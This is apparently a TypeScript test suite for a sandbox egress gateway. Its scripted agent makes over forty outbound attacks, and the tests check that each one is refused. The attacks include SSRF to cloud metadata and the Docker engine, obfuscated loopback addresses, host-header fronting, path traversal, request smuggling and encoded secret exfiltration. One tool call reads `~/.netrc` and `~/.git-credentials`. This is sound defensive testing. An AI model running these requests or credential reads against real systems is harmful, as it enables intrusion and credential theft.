/**
 * Attacks on the way out, from code that runs in a real sandbox of a run that may use the network (THREATS 14, 16, 21 to
 * 27): no rule on commands holds it, so the container and the gateway alone must.
 */
import { once } from "node:events";
import { createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createRedactor } from "../../daemon/boundary/redaction.ts";
import { SecretStore } from "../../daemon/boundary/run-secrets.ts";
import type { JournalEvent } from "../../daemon/protocol/events.ts";
import { createSecretValues } from "../../daemon/secrets.ts";
import { archiveOf, inPieces } from "../boundary/support.ts";
import { dataOf, scripted } from "../e2e/runs.ts";
import { type Host, plainHost, upstreamTrust } from "../gateway/hosts.ts";
import { type HarnessUnderTest, harnessUnderTest } from "../harness/harness-under-test.ts";
import { outsideUnderTest } from "../harness/outside-under-test.ts";
import { type DockerHosts, dockerHosts } from "./docker-hosts.ts";
import { ATTACKER, PAST_THE_PROXY } from "./outgoing-attacks.ts";

const SECRET = "registry-credential-51d2e87f3a9c";
const OTHERS = "another-accounts-key";
/** Bytes that one upload may have. */
const UPLOAD = 8_192;
const LIMIT = 65_536;
/** Small uploads that are tried: more than the run may send. */
const MANY = 90;
/** How refusals begin; of a tunnel, that it was opened to be told inside. */
const STATUS = /^HTTP\/1.1 (400|403|200 Connection established)/;

interface Attack {
  readonly name: string;
  readonly bytes: readonly string[];
  readonly tls?: string;
  readonly sni?: string;
  /** The rule by which it is refused; `-`: refused before any rule, as what it is not. */
  readonly rule: string;
}

let hosts: DockerHosts;
let under: HarnessUnderTest;
let outside: ReturnType<typeof outsideUnderTest>;
/** `secure` may be asked for some things, `plain` stands for a service of this machine that nobody was to reach. */
let secure: Host;
let plain: Host;
let abstract: Server;
let attacks: Attack[];
let events: JournalEvent[];
let outputs: string[];

const own = (): string =>
  Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? "127.0.0.1";

/** Names as a resolver that is not on our side would have them. */
async function lookup(host: string): Promise<readonly string[]> {
  const known: Readonly<Record<string, string>> = {
    "api.test": "127.0.0.1",
    "denied.test": "127.0.0.1",
    localhost: "127.0.0.1",
    "local.test": "127.0.0.1",
    "mapped.test": "::ffff:127.0.0.1",
    "nat64.test": "64:ff9b::7f00:1",
    "metadata.test": "169.254.169.254",
    "private.test": "10.0.0.1",
    "own.test": own(),
  };
  const address = known[host];
  if (address === undefined) throw new Error("no such name");
  return [address];
}

const policy = `version: 1
name: attacked
default: deny
exec:
  shell: contained
  rules: [{ id: shell, argv: ["..."], decision: allow }]
files: { read: { allow: ["/**"] }, write: { allow: ["/workspace/**", "/tmp/**"] } }
network:
  - { id: api, host: api.test, addresses: [127.0.0.0/8], methods: [GET], paths: ["/public/**"], decision: allow, secret: vcs }
  - { id: upload, host: api.test, addresses: [127.0.0.0/8], methods: [POST], paths: ["/upload"], decision: allow, maxBytesOut: ${UPLOAD} }
  # As naive as rules get: any name, and services of this machine by theirs.
  - { id: anything, host: "*", methods: [GET], paths: ["/**"], decision: allow }
  - { id: metadata, host: 169.254.169.254, methods: [GET], paths: ["/**"], decision: allow }
  - { id: bridge, host: 172.17.0.1, methods: [GET], paths: ["/**"], decision: allow }
  - { id: loopback, host: 127.0.0.1, methods: [GET], paths: ["/**"], decision: allow }
  - { id: never, host: denied.test, methods: [GET], paths: ["/**"], decision: deny }
secrets:
  vcs: { from: env:ATTACKED_TOKEN, header: "authorization: Bearer {}", hosts: [api.test] }
limits: { bytesOut: ${LIMIT} }
sandbox: { image: python, images: [python] }
`;

const CLOSE = "Connection: close\r\n\r\n";

function requestOf(url: string, more = "", method = "GET"): string[] {
  return [`${method} ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}${CLOSE}`];
}

function posted(url: string, body: string, more = ""): string[] {
  return [
    `POST ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}Content-Length: ${body.length}\r\n${CLOSE}`,
    body,
  ];
}

function attacksOn(port: number, local: number): Attack[] {
  const api = `https://api.test:${port}`;
  const inside = { tls: `api.test:${port}`, sni: "api.test" };
  const host = `Host: api.test:${port}\r\n`;
  const plainly = (url: string) => requestOf(url.replace("PORT", String(local)));
  const raw = (target: string, header: string) => [`GET ${target} HTTP/1.1\r\nHost: ${header}\r\n${CLOSE}`];
  return [
    ...(
      [
        ["16: a service of this machine by its address", "http://127.0.0.1:PORT/", "gateway.address"],
        ["16: the engine's port", "http://172.17.0.1:2375/containers/json", "gateway.address"],
        ["16: the metadata address", "http://169.254.169.254/latest/meta-data/", "gateway.address"],
        ["16: the metadata address by a name", "http://metadata.test/latest/meta-data/", "gateway.address"],
        ["16: this machine by a name of its own address", "http://own.test:PORT/", "gateway.address"],
        ["16: localhost", "http://localhost:PORT/", "gateway.address"],
        ["16: a private network", "http://private.test/", "gateway.address"],
        ["16: an address that no rule names", "http://192.168.0.1/", "default"],
        ["21: IPv6's loopback", "http://[::1]:PORT/", "default"],
        ["21: a mapped address", "http://[::ffff:127.0.0.1]:PORT/", "gateway.target"],
        ["21: a name of a mapped address", "http://mapped.test:PORT/", "gateway.address"],
        ["21: a name of a NAT64 address", "http://nat64.test:PORT/", "gateway.address"],
        ["21: a public name that leads to loopback", "http://local.test:PORT/", "gateway.address"],
      ] as const
    ).map(([name, url, rule]) => ({ name, bytes: plainly(url), rule })),
    ...(
      [
        ["21: a decimal address", `http://2130706433:${local}/`, `2130706433:${local}`],
        ["21: an octal address", `http://0177.0.0.1:${local}/`, `0177.0.0.1:${local}`],
        ["21: a hexadecimal address", `http://0x7f000001:${local}/`, `0x7f000001:${local}`],
        ["21: a short address", `http://127.1:${local}/`, `127.1:${local}`],
        ["22: a trailing dot", `http://denied.test.:${local}/`, `denied.test.:${local}`],
        ["22: a user before the host", `http://api.test@denied.test:${local}/`, `denied.test:${local}`],
        ["22: a NUL in the host", `http://api.test%00.denied.test:${local}/`, `api.test:${local}`],
      ] as const
    ).map(([name, target, header]) => ({ name, bytes: raw(target, header), rule: "gateway.target" })),
    {
      name: "22: upper case of a denied host",
      bytes: raw(`http://DENIED.test:${local}/`, `denied.TEST:${local}`),
      rule: "never",
    },
    {
      name: "22: fronting by the Host header",
      bytes: raw(`http://api.test:${local}/public/x`, `denied.test:${local}`),
      rule: "gateway.host",
    },
    {
      name: "22: fronting inside a tunnel",
      ...inside,
      bytes: [`GET /public/x HTTP/1.1\r\nHost: denied.test\r\n${CLOSE}`],
      rule: "gateway.host",
    },
    {
      name: "22: another SNI",
      ...inside,
      sni: "denied.test",
      bytes: [`GET /public/x HTTP/1.1\r\n${host}${CLOSE}`],
      rule: "gateway.sni",
    },
    {
      name: "22: a CONNECT to a denied host",
      tls: `denied.test:${port}`,
      sni: "denied.test",
      bytes: [`GET / HTTP/1.1\r\nHost: denied.test:${port}\r\n${CLOSE}`],
      rule: "never",
    },
    ...[
      "/public/../private",
      "/public/%2e%2e/private",
      "/public//private",
      "/public/%2fprivate",
      "/public/..%5cprivate",
    ].map((path) => ({
      name: `23: ${path}`,
      ...inside,
      bytes: [`GET ${path} HTTP/1.1\r\n${host}${CLOSE}`],
      rule: "gateway.target",
    })),
    {
      name: "24: something other than TLS in a tunnel",
      bytes: [`CONNECT api.test:${port} HTTP/1.1\r\n${host}\r\nGET / HTTP/1.1\r\n\r\n`],
      rule: "gateway.tls",
    },
    ...["h2c", "websocket"].map((protocol) => ({
      name: `24: an upgrade to ${protocol}`,
      ...inside,
      bytes: [`GET /public/x HTTP/1.1\r\n${host}Connection: Upgrade, close\r\nUpgrade: ${protocol}\r\n\r\n`],
      rule: "gateway.upgrade",
    })),
    ...(
      [
        ["24: a length and an encoding", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"],
        ["24: two Host headers", "Host: denied.test\r\n"],
        ["24: a folded header", "X-A: b\r\n c\r\n"],
      ] as const
    ).map(([name, header]) => ({
      name,
      ...inside,
      bytes: [
        `POST /upload HTTP/1.1\r\n${host}${header}${CLOSE}0\r\n\r\nGET /public/smuggled HTTP/1.1\r\n${host}${CLOSE}`,
      ],
      rule: "-",
    })),
    ...(
      [
        ["in the path", { bytes: requestOf(`${api}/public/${SECRET}`) }],
        ["in the query", { bytes: requestOf(`${api}/public/x?q=${SECRET}`) }],
        ["in a header", { bytes: requestOf(`${api}/public/x`, `X-Note: ${SECRET}\r\n`) }],
        [
          "in the header of another account",
          { bytes: requestOf("http://elsewhere.test/", `Authorization: Bearer ${SECRET}\r\n`) },
        ],
        ["in a body", { bytes: posted(`${api}/upload`, `x=${SECRET}`) }],
        [
          "in a body, in base64",
          { bytes: posted(`${api}/upload`, Buffer.from(`ab${SECRET}`).toString("base64")) },
        ],
        ["in a body, in hex", { bytes: posted(`${api}/upload`, Buffer.from(SECRET).toString("hex")) }],
        ["in a body, reversed", { bytes: posted(`${api}/upload`, [...SECRET].reverse().join("")) }],
        [
          "in a body, packed",
          { bytes: posted(`${api}/upload`, gzipSync(`a ${SECRET} b`).toString("latin1")) },
        ],
        [
          "in pieces of chunks",
          {
            bytes: [
              `POST ${api}/upload HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n${CLOSE}`,
              ...[...SECRET].map((letter) => `1\r\n${letter}\r\n`),
              "0\r\n\r\n",
            ],
          },
        ],
      ] as const
    ).map(([where, attack]) => ({ name: `25: a secret ${where}`, ...attack, rule: "builtin.secret" })),
    {
      name: "26: a placeholder to a foreign host",
      bytes: requestOf("http://elsewhere.test/", "Authorization: Bearer PLACEHOLDER\r\n"),
      rule: "builtin.placeholder",
    },
    {
      name: "27: a body larger than its rule lets it be",
      bytes: posted(`${api}/upload`, "x".repeat(UPLOAD)),
      rule: "maxBytesOut",
    },
  ];
}

const bash = (command: string) => ({ tool: "bash", input: { command } });

beforeAll(async () => {
  hosts = await dockerHosts();
  const trust = await upstreamTrust();
  secure = await trust.hostOf("api.test", ({ url = "", headers }, response) => {
    if (url === "/public/moved")
      return void response.writeHead(302, { location: `http://denied.test:${plain.port}/` }).end();
    response.end(`asked ${url} by ${headers.authorization ?? "nobody"}\n`);
  });
  plain = await plainHost((_request, response) => response.end("internal\n"));
  abstract = createServer().listen(`\0caisson-attacked-${process.pid}`);
  await once(abstract, "listening");
  outside = outsideUnderTest({ ca: trust.ca, lookup });
  const redactor = createRedactor([]);
  const values = createSecretValues({ ATTACKED_TOKEN: SECRET }, "");
  const secrets = new SecretStore({ values, redactor, key: "test", canaries: true });
  under = await harnessUnderTest(hosts.host("outgoing", { poolSize: 0 }), { outside, redactor, secrets });
  attacks = attacksOn(secure.port, plain.port);
  const body = "a".repeat(700);
  const many = `curl -s -o /dev/null -w '%{http_code}\\n' -d ${body} "https://api.test:${secure.port}/upload?[1-${MANY}]" | sort | uniq -c`;
  const { run } = await under.harness.submit({
    task: "Attack.",
    model: scripted([
      {
        use: [
          bash(`sh test.sh ${plain.port} caisson-attacked-${process.pid}`),
          bash('sed -i "s/PLACEHOLDER/$ATTACKED_TOKEN/" attacks.json; python3 attacker.py'),
          bash(
            `curl -sS https://api.test:${secure.port}/public/x -H 'Authorization: Bearer ${OTHERS}'; env; cat ~/.netrc ~/.git-credentials 2>/dev/null`,
          ),
          bash(`curl -sSL https://api.test:${secure.port}/public/moved`),
          bash(many),
        ],
      },
      { say: "Done." },
    ]),
    policy,
    workspace: (
      await under.blobs.put(
        inPieces(
          archiveOf([
            { path: "attacker.py", content: ATTACKER },
            { path: "past.py", content: PAST_THE_PROXY },
            { path: "test.sh", content: 'exec python3 past.py "$@"\n' },
            { path: "attacks.json", content: JSON.stringify(attacks) },
          ]),
          65_536,
        ),
        2 ** 24,
      )
    ).hash,
  });
  events = await under.ended(run);
  outputs = dataOf(events, "action.finished").map(({ output }) => String(output));
}, 180_000);

afterAll(async () => {
  await under?.close();
  outside?.close();
  abstract?.close();
  await secure?.close();
  await plain?.close();
  await hosts?.cleanUp();
}, 60_000);

/** What came of an attack, by its name. */
const toldOf = (name: string): string[] =>
  (outputs[1] ?? "")
    .split("\n")
    .find((line) => line.startsWith(`${name} | `))
    ?.split(" | ")
    .slice(1) ?? [];

describe("THREATS 14, 16: past the proxy", () => {
  test("nothing that a planted test script tries gets anywhere: no TCP, UDP, QUIC, ICMP, name or socket of the host", () => {
    const lines = (outputs[0] ?? "").trim().split("\n");
    expect(lines).toHaveLength(21);
    expect(lines.filter((line) => !/: (\w*Error|gaierror)$/.test(line))).toEqual([]);
  });
});

describe("THREATS 16, 21 to 27: through the proxy, by raw bytes", () => {
  test("each attack is refused by what it breaks", () => {
    const told = attacks.map(({ name }) => [name, ...toldOf(name)]);
    const expected = attacks.map(({ name, rule }) => [name, expect.stringMatching(STATUS), rule]);
    expect(told).toEqual(expected);
    expect(attacks.length).toBeGreaterThan(40);
  });

  test("nothing of them reached a host, not even of those in pieces", () => {
    expect(plain.received).toEqual([]);
    const urls = new Set(secure.received.map(({ method, url }) => `${method} ${url.split("?")[0]}`));
    expect([...urls].sort()).toEqual(["GET /public/moved", "GET /public/x", "POST /upload"]);
    for (const { url, body, headers } of secure.received) {
      expect(url + body).not.toContain(SECRET);
      expect([undefined, `Bearer ${SECRET}`]).toContain(headers.authorization);
    }
  });

  test("16: of allowed requests whose address is not public the journal says why they went nowhere", () => {
    const ends = dataOf(events, "egress.finished").filter(({ bytesOut, error }) => bytesOut === 0 && error);
    expect(ends.filter(({ error }) => String(error).includes("is no public address")).length).toBeGreaterThan(
      9,
    );
  });

  test("22, 27: another account's credential is replaced by the run's own, whose value comes back as its placeholder", () => {
    expect(outputs[2]).toMatch(/^asked \/public\/x by Bearer caisson-placeholder-vcs-/);
    const seen = secure.received.find(({ url }) => url === "/public/x");
    expect(seen?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(JSON.stringify(secure.received)).not.toContain(OTHERS);
    expect(outputs.slice(2).join("\n")).not.toContain(SECRET);
  });

  test("23: a redirect to a denied host is a request of its own, and denied", () => {
    expect(outputs[3]).toMatch(/refused this request[\s\S]*rule: +never/);
  });

  test("27: many small requests end at what the run may send (L1)", () => {
    const counts = Object.fromEntries(
      (outputs[4] ?? "").split("\n").map((line) => line.trim().split(" ").reverse()),
    );
    expect(Number(counts["200"]) + Number(counts["403"])).toBe(MANY);
    expect(Number(counts["403"])).toBeGreaterThan(0);
    const sent = dataOf(events, "egress.finished").reduce((sum, { bytesOut }) => sum + bytesOut, 0);
    expect(sent).toBeLessThanOrEqual(LIMIT);
  });

  test("every verdict is in the journal, and nothing of the secret but in the attacks' own file", () => {
    const refused = dataOf(events, "egress.judged").filter(({ verdict }) => verdict === "deny");
    expect(refused.length).toBeGreaterThan(30);
    expect(JSON.stringify(events.slice(2))).not.toContain(SECRET);
    expect(dataOf(events, "action.finished")).toHaveLength(5);
  });
});
